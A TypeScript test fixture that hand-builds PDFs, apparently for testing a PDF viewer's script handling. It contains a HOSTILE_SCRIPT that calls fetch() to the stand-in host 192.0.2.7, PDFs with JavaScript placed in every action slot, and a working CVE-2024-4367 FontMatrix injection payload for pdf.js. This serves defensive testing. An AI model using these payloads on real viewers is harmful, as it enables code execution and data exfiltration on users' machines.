/** PDFs written by hand, benign and hostile: what no library would write for us. */
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';

export interface PdfOptions {
  /** A line of text for each page. */
  readonly pages: readonly string[];
  /** Added to the catalogue. */
  readonly catalogue?: string;
  /** Added to every page. */
  readonly page?: string;
  /** The font's dictionary, with `FILE` for its program; left out: Helvetica, which is not embedded. */
  readonly font?: string;
  /** More objects, from number 100 on. */
  readonly objects?: readonly string[];
}

export function pdfFile({ pages, catalogue = '', page = '', font, objects = [] }: PdfOptions): Buffer {
  const program = font === undefined ? null : liberation();
  const bodies = new Map<number, Buffer>();
  const put = (number: number, body: string | Buffer) => bodies.set(number, Buffer.from(body as string, 'latin1'));
  const kids = pages.map((_, index) => `${10 + 2 * index} 0 R`).join(' ');
  put(1, `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`);
  put(2, `<< /Type /Pages /Kids [${kids}] /Count ${pages.length} >>`);
  put(
    3,
    font?.replace('FILE', '4 0 R') ??
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
  );
  if (program !== null) {
    put(
      4,
      '<< /Type /FontDescriptor /FontName /Prova /Flags 32 /FontBBox [-500 -300 1300 1000] /ItalicAngle 0 /Ascent 900 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 5 0 R >>',
    );
    put(5, stream(program, `/Length1 ${program.length}`));
  }
  for (const [index, text] of pages.entries()) {
    const escaped = text.replace(/[\\()]/g, '\\$&');
    put(
      10 + 2 * index,
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${11 + 2 * index} 0 R /Resources << /Font << /F1 3 0 R >> >> ${page} >>`,
    );
    put(
      11 + 2 * index,
      stream(Buffer.from(`BT /F1 24 Tf 72 760 Td (${escaped}) Tj 7 Tr 0 -40 Td (${escaped}) Tj ET`, 'latin1')),
    );
  }
  for (const [index, body] of objects.entries()) put(100 + index, body);
  return assembled(bodies);
}

const stream = (bytes: Buffer, more = ''): Buffer =>
  Buffer.concat([Buffer.from(`<< /Length ${bytes.length} ${more} >>\nstream\n`), bytes, Buffer.from('\nendstream')]);

function assembled(bodies: ReadonlyMap<number, Buffer>): Buffer {
  const pieces: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  let length = 9;
  const places = new Map<number, number>();
  for (const [number, body] of bodies) {
    places.set(number, length);
    const piece = Buffer.concat([Buffer.from(`${number} 0 obj\n`), body, Buffer.from('\nendobj\n')]);
    pieces.push(piece);
    length += piece.length;
  }
  const table = [...places].map(([number, at]) => `${number} 1\n${String(at).padStart(10, '0')} 00000 n \n`).join('');
  pieces.push(
    Buffer.from(
      `xref\n0 1\n0000000000 65535 f \n${table}trailer\n<< /Size ${Math.max(...places.keys()) + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(pieces);
}

function liberation(): Buffer {
  const folder = dirname(createRequire(import.meta.url).resolve('pdfjs-dist/package.json'));
  return readFileSync(join(folder, 'standard_fonts/LiberationSans-Regular.ttf'));
}

/** Sets a mark that tests look for, and asks a host that no test knows. */
export const HOSTILE_SCRIPT =
  "globalThis.RUN=1;try{parent.RUN=1}catch(e){};document.title='RUN';fetch('http://192.0.2.7/run')";

/** Scripts of the document at every place where one may stand, and actions that lead away. */
export const pdfWithScripts = (text: string): Buffer => {
  const script = `(app.alert\\(1\\);this.submitForm\\("http://192.0.2.7/"\\);${HOSTILE_SCRIPT.replace(/[\\()]/g, '\\$&')})`;
  return pdfFile({
    pages: [text],
    catalogue: `/OpenAction << /S /JavaScript /JS ${script} >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ${script} >>] >> >> /AA << /WC << /S /JavaScript /JS ${script} >> >> /AcroForm << /Fields [100 0 R] >>`,
    page: `/AA << /O << /S /JavaScript /JS ${script} >> >> /Annots [100 0 R 101 0 R]`,
    objects: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (campo) /V (1) /Rect [72 600 300 630] /AA << /F << /S /JavaScript /JS ${script} >> >> >>`,
      '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (http://192.0.2.7/link) >> >>',
    ],
  });
};

/** CVE-2024-4367: a matrix of a font in which a string stands where a number should, once compiled into a script. */
export const pdfWithFontPayload = (text: string): Buffer => {
  const payload = `(1\\);${HOSTILE_SCRIPT.replace(/[\\()]/g, '\\$&')};//)`;
  return pdfFile({
    pages: [text],
    font: `<< /Type /Font /Subtype /TrueType /BaseFont /Prova /FirstChar 32 /LastChar 122 /Widths [${'600 '.repeat(91)}] /Encoding /WinAnsiEncoding /FontMatrix [0.001 0 0 0.001 0 ${payload}] /FontDescriptor FILE >>`,
  });
};
